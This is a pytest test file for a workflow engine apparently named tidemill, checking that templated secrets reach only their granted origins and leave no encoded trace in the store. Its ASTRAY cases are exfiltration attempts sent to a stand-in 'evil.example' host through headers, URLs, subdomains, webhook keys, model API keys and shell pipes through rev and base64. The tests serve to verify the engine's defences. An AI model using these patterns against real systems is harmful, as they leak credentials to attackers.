"""What a document may do with a secret: name it alone or within fixed text, and send it to its origins.

Everything else that an author may try is in the tables: it is refused when the document is published, or fails the node
before anything is sent. In both cases no form of the secret is left in the store.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import apsw
import pytest

import tidemill
from tests.fixtures.grants import enable_sql, secret_grants
from tests.fixtures.servers.llm_server import endpoint, says
from tests.fixtures.servers.smtp_server import mail_server
from tests.fixtures.servers.web import json_reply, redirect, web
from tidemill.bootstrap import engine_at
from tidemill.errors import Rejected

CANARY = 'Canary-7fQ/x+9Zk 3"w'
"""Of letters in both cases, and with characters that JSON, URLs and base64 write otherwise."""
SIMPLE = "whsec_" + base64.b64encode(b"i\xb7\x1dz\xb3\x14" * 6).decode()
"""One that is fine in a URL, in a name of a host and as the key of a webhook."""
NAME = "CANARY"
ALONE = "{{ secrets.CANARY }}"


def derived(secret: str) -> dict[str, bytes]:
    """Forms of a secret that must not be left anywhere."""
    once = json.dumps(secret)[1:-1]
    forms = {
        "plain": secret,
        "upper": secret.upper(),
        "lower": secret.lower(),
        "reversed": secret[::-1],
        "first half": secret[:10],
        "last half": secret[-10:],
        "base64": base64.b64encode(secret.encode()).decode(),
        "hex": secret.encode().hex(),
        "URL": quote(secret, safe=""),
        "JSON": once,
        "JSON in JSON": json.dumps(once)[1:-1],
    }
    return {name: form.encode() for name, form in forms.items()}


def left_in(folder: Path, *more: object) -> list[str]:
    """Forms of the canaries that are in the files of stores or in what was said."""
    places = [path.read_bytes() for path in folder.rglob("*.db*") if path.is_file()]
    places += [repr(each).encode() for each in more]
    forms = [each for secret in (CANARY, SIMPLE) for each in derived(secret).items()]
    return [name for name, form in forms if any(form in place for place in places)]


def test_the_search_would_find_each_form(tmp_path: Path) -> None:
    for name, form in (*derived(CANARY).items(), *derived(SIMPLE).items()):
        (tmp_path / "x.db").write_bytes(b"before" + form + b"after")
        assert name in left_in(tmp_path)


@pytest.fixture(autouse=True)
def operator(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Everything is granted that could help an author, except a way out for the secret."""
    apsw.Connection(str(tmp_path / "crm.sqlite")).execute("CREATE TABLE t (n)").close()
    for name, value in {
        f"TIDEMILL_SECRET_{NAME}": CANARY,
        "TIDEMILL_SECRET_OTHER": "another-secret",
        "TIDEMILL_SECRET_GRANTS": secret_grants([NAME, "OTHER"], origins=["https://crm.example.com"]),
        "TIDEMILL_EGRESS_ALLOW": "127.0.0.1:*",
        "TIDEMILL_DATABASE_CRM": f"sqlite:///{tmp_path / 'crm.sqlite'}",
        "TIDEMILL_SHELL": "on",
    }.items():
        monkeypatch.setenv(name, value)
    enable_sql(monkeypatch)


HTTP = {"url": "https://crm.example.com/"}


def http(**config: Any) -> dict[str, Any]:
    return {"type": "http", "config": {**HTTP, **config}}


NOT_ALONE = [
    "{{ secrets.CANARY | upper }}",
    "{{ secrets.CANARY | reverse }}",
    "{{ secrets.CANARY | tojson }}",
    "{{ secrets.CANARY[:4] }}",
    "{{ secrets.CANARY[0] }}",
    "{{ secrets.CANARY ~ 'x' }}",
    "{{ secrets.CANARY + 'x' }}",
    "{{ secrets.CANARY }}{{ secrets.OTHER }}",
    "{{ inputs.x }}{{ secrets.CANARY }}",
    "{{ secrets.CANARY }}{{ run.id }}",
    "{% set s = secrets.CANARY %}{{ s }}",
    "{% if secrets.CANARY %}a{% endif %}",
    "{{ secrets }}",
    "{{ secrets | tojson }}",
    "{{ secrets['CAN' ~ 'ARY'] }}",
    "{{ secrets[inputs.x] }}",
    "{{ {secrets.CANARY: 1} }}",
    "{{ [secrets.CANARY] }}",
    "{{ {(secrets.CANARY|upper): 1}.zzz }}",
    "{{ inputs[secrets.CANARY] }}",
    "{{ secrets.CANARY in inputs.x }}",
    "{{ 'a' if secrets.CANARY == 'x' else 'b' }}",
    "{{ inputs.x | replace(secrets.CANARY, 'y') }}",
    "{{ (secrets.CANARY) }}",
    "{{ secrets.CANARY if inputs.x else 1 }}",
    "{% for c in secrets.CANARY %}{{ c }} {% endfor %}",
    "{{ secrets.CANARY * 2 }}",
    "{{ secrets.CANARY | length }}",
    "{{ inputs.list | map(secrets.CANARY) | list }}",
    "{{ 1 | round(secrets.CANARY) }}",
    "{{ secrets.CANARY.upper() }}",
    "{{ secrets.CANARY.x }}",
    "{{ secrets.CANARY is string }}",
    "{{ -secrets.CANARY }}",
]


@pytest.mark.parametrize("template", NOT_ALONE)
def test_a_secret_stands_alone_or_within_fixed_text(template: str, tmp_path: Path) -> None:
    with tidemill.open(f"sqlite:///{tmp_path}/mill.db") as mill, pytest.raises(Rejected) as refused:
        mill.publish({"name": "w", "nodes": [{"id": "a", **http(headers={"x": template})}]})
    assert "/nodes/0/config/headers/x" in [each.path for each in refused.value.problems]
    codes = {each.code for each in refused.value.problems}
    assert codes & {"secret_not_alone", "template_syntax", "expression_syntax"}, codes
    assert left_in(tmp_path, refused.value) == []


@pytest.mark.parametrize(
    "template",
    [
        ALONE,
        "{{ secrets['CANARY'] }}",
        "Token {{ secrets.CANARY }}",
        "{{secrets.CANARY}}",
        "a {{- secrets.CANARY -}} b",
    ],
)
def test_what_is_allowed(template: str, tmp_path: Path) -> None:
    with tidemill.open(f"sqlite:///{tmp_path}/mill.db") as mill:
        mill.publish({"name": "w", "nodes": [{"id": "a", **http(headers={"x": template})}]})


ELSEWHERE: list[dict[str, Any]] = [
    {"nodes": [{"id": "a", "type": "value", "config": ALONE}]},
    {"nodes": [{"id": "a", "type": "value", "config": {"deep": [{"x": ALONE}]}}]},
    {"nodes": [{"id": "a", "type": "python", "config": {"function": "json:dumps", "args": {"obj": ALONE}}}]},
    {"nodes": [{"id": "a", "type": "transform", "config": {"value": ALONE}}]},
    {"nodes": [{"id": "a", "type": "shell", "config": {"argv": ["echo", ALONE]}}]},
    {"nodes": [{"id": "a", "type": "email", "config": {"to": "a@b.example", "subject": ALONE, "text": "x"}}]},
    {"nodes": [{"id": "a", "type": "email", "config": {"to": "a@b.example", "subject": "x", "text": ALONE}}]},
    {"nodes": [{"id": "a", "type": "email", "config": {"to": "a@b.example", "text": "x", "headers": {"X-A": ALONE}}}]},
    {"nodes": [{"id": "a", "type": "llm", "config": {"model": "m", "prompt": ALONE}}]},
    {"nodes": [{"id": "a", "type": "workflow", "config": {"workflow": "w", "inputs": {"x": ALONE}}}]},
    {"nodes": [{"id": "a", "type": "human", "config": {"title": ALONE}}]},
    {"nodes": [{"id": "a", "type": "fail", "config": {"message": ALONE}}]},
    {"nodes": [{"id": "a", "type": "value", "config": 1, "map": {"over": ALONE}}]},
    {"nodes": [{"id": "a", "type": "value", "config": 1, "when": "secrets.CANARY == 'x'"}]},
    {"nodes": [{"id": "a", "type": "value", "config": 1, "compensator": {"type": "value", "config": ALONE}}]},
    {"nodes": [{"id": "a", "type": "value", "config": 1}], "outputs": ALONE},
    {"nodes": [{"id": "a", "type": "sql", "config": {"statement": f"SELECT '{ALONE}'"}}]},
    {"nodes": [{"id": "a", "type": "sql", "config": {"statement": "SELECT upper(?) AS x", "parameters": [ALONE]}}]},
    {"nodes": [{"id": "a", "type": "sql", "config": {"database": ALONE, "statement": "SELECT 1"}}]},
]


@pytest.mark.parametrize("document", ELSEWHERE, ids=lambda document: json.dumps(document)[:70])
def test_fields_that_hold_no_secrets(document: dict[str, Any], tmp_path: Path) -> None:
    with tidemill.open(f"sqlite:///{tmp_path}/mill.db") as mill, pytest.raises(Rejected) as refused:
        mill.publish({"name": "w", **document})
    assert left_in(tmp_path, refused.value) == []


def test_a_key_is_never_a_template(tmp_path: Path) -> None:
    """It is sent as it stands, or refused; nothing of the secret is in it."""
    with tidemill.open(f"sqlite:///{tmp_path}/mill.db") as mill:
        view = mill.run({"name": "w", "nodes": [{"id": "a", "type": "value", "config": {ALONE: 1}}]})
    assert view.outputs == {"a": {ALONE: 1}} and left_in(tmp_path, view) == []


def called(url: str, kind: str = "http", **config: Any) -> dict[str, Any]:
    return {"type": kind, "config": {"url": url, **config}}


def asking(database: str, statement: str = "SELECT upper(?) AS x") -> dict[str, Any]:
    return {"type": "sql", "config": {"database": database, "statement": statement, "parameters": [ALONE]}}


def model(kind: str, **config: Any) -> dict[str, Any]:
    return {"type": kind, "config": {"model": "m", "base_url": "EVIL", "api_key": ALONE, **config}}


def mailed(**config: Any) -> dict[str, Any]:
    return {
        "type": "email",
        "config": {"from": "a@a.example", "to": "b@b.example", "subject": "x", "text": "x", **config},
    }


MAIL = {"host": "127.0.0.1", "port": 2525, "tls": "starttls"}
SIGNED = {"type": "t", "data": 1}
ASTRAY: list[dict[str, Any]] = [
    called("EVIL", auth={"bearer": ALONE}),
    called("{{ inputs.evil }}", auth={"bearer": ALONE}),
    called("EVIL", headers={"x": f"Token {ALONE}"}),
    called("EVIL/{{ secrets.CANARY }}"),
    called("EVIL?x={{ secrets.CANARY }}"),
    called("https://{{ secrets.CANARY }}.evil.example/"),
    called("https://crm.example.com.evil.example/", headers={"x": ALONE}),
    called("http://crm.example.com/", headers={"x": ALONE}),
    called("https://crm.example.com:444/", headers={"x": ALONE}),
    called("EVIL", query={"x": ALONE}),
    called("EVIL", method="POST", body={"json": {"x": [ALONE]}}),
    called("EVIL", "webhook", headers={"x": ALONE}, secret="{{ secrets.CANARY }}", **SIGNED),
    called("EVIL", "webhook", secret=ALONE, **SIGNED),
    model("llm", prompt="?"),
    model("classify", text="?", labels=["a", "b"]),
    {"type": "pipeline", "config": {"pipeline": [{"step": "http_request", "url": "EVIL", "headers": {"x": ALONE}}]}},
    asking("crm"),
    asking("{{ inputs.crm }}"),
    asking("{{ inputs.store }}"),
    {"type": "shell", "config": {"argv": ["sh", "-c", 'printf %s "$X" | rev'], "env": {"X": ALONE}}},
    {"type": "shell", "config": {"argv": ["base64"], "stdin": ALONE}},
    mailed(server={**MAIL, "username": "u", "password": ALONE}),
]


@pytest.mark.parametrize("secret", [CANARY, SIMPLE], ids=["strange", "simple"])
@pytest.mark.parametrize("node", ASTRAY, ids=lambda node: f"{ASTRAY.index(node)} {node['type']}")
async def test_a_secret_is_sent_to_its_origins_only(
    node: dict[str, Any], secret: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(f"TIDEMILL_SECRET_{NAME}", secret)
    async with web({"/": json_reply({}), "/v1/chat/completions": json_reply({})}) as evil, mail_server() as mail:
        monkeypatch.setenv("TIDEMILL_SMTP_URL", f"smtp://127.0.0.1:{mail.port}?tls=none")
        inputs = {"evil": evil.url(), "crm": "crm", "store": "store"}
        node = json.loads(json.dumps(node).replace("EVIL", evil.url("")))
        async with engine_at(f"sqlite:///{tmp_path}/mill.db") as engine:
            await engine.publish({"name": "w", "nodes": [{"id": "a", "retry": {"max_attempts": 1}, **node}]})
            view = await engine.result(await engine.start("w", inputs), timeout_s=60)
        assert (evil.asked, mail.taken) == ([], [])
    error = view.nodes["a"]["error"]
    if "inputs.store" in repr(node):
        assert error["code"] == "secret_not_allowed"
    elif secret == SIMPLE or error["code"] not in ("url_invalid", "signing_key_invalid"):
        assert error["code"] == "origin_not_allowed" and NAME in error["message"]
        assert "under `[secrets.CANARY]` in tidemill.toml" in error["hint"]
    assert left_in(tmp_path, view) == []


@pytest.mark.parametrize("workflows", ["other", "W", "w2,ww"])
async def test_a_secret_belongs_to_the_workflows_it_is_granted_to(
    workflows: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with web({"/": json_reply({})}) as served:
        grants = secret_grants([NAME], workflows=workflows)
        monkeypatch.setenv("TIDEMILL_SECRET_GRANTS", grants)
        async with engine_at(f"sqlite:///{tmp_path}/mill.db") as engine:
            await engine.publish({"name": "w", "nodes": [{"id": "a", **called(served.url(), headers={"x": ALONE})}]})
            view = await engine.result(await engine.start("w"), timeout_s=60)
        assert served.asked == []
    error = view.nodes["a"]["error"]
    assert error["code"] == "secret_not_granted"
    assert '`workflows = ["w"]`' in error["hint"] and "under `[secrets.CANARY]` in tidemill.toml" in error["hint"]


async def test_its_origin_is_sent_the_secret_and_another_one_of_a_redirect_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with web({"/": json_reply({})}) as evil, web({"/": redirect(evil.url("/"), 302)}) as crm:
        grants = secret_grants([NAME], origins=[crm.url("").rstrip("/")])
        monkeypatch.setenv("TIDEMILL_SECRET_GRANTS", grants)
        monkeypatch.setenv(f"TIDEMILL_SECRET_{NAME}", "canary-token")
        node = called(crm.url("/"), headers={"x": ALONE}, auth={"bearer": ALONE}, query={"q": ALONE})
        async with engine_at(f"sqlite:///{tmp_path}/mill.db") as engine:
            await engine.publish({"name": "w", "nodes": [{"id": "a", **node}]})
            view = await engine.result(await engine.start("w"), timeout_s=60)
        assert view.status == "COMPLETED", view
        (sent,), (arrived,) = crm.asked, evil.asked
    assert sent.headers["x"] == "canary-token" and "canary-token" in sent.target
    assert "canary-token" not in repr(arrived)


async def test_a_model_is_sent_its_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with endpoint(says("yes")) as model_:
        monkeypatch.setenv("TIDEMILL_SECRET_GRANTS", secret_grants([NAME]))
        monkeypatch.setenv(f"TIDEMILL_SECRET_{NAME}", "canary-token")
        async with engine_at("memory://") as engine:
            node = {"id": "a", "type": "llm", "config": model_.config(prompt="?", api_key=ALONE)}
            await engine.publish({"name": "w", "nodes": [node]})
            view = await engine.result(await engine.start("w"), timeout_s=60)
        assert view.status == "COMPLETED", view
        assert model_.served.asked[0].headers["authorization"] == "Bearer canary-token"


def test_a_database_is_sent_what_it_is_an_origin_of(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TIDEMILL_SECRET_GRANTS", secret_grants([NAME], origins=["database:crm"]))
    with tidemill.open(f"sqlite:///{tmp_path}/mill.db") as mill:
        view = mill.run({"name": "w", "nodes": [{"id": "a", **asking("crm", "INSERT INTO t VALUES (?)")}]})
    assert view.status == "COMPLETED", view
    found = apsw.Connection(str(tmp_path / "crm.sqlite")).execute("SELECT n FROM t").fetchall()
    assert found == [(CANARY,)] and left_in(tmp_path, view) == []
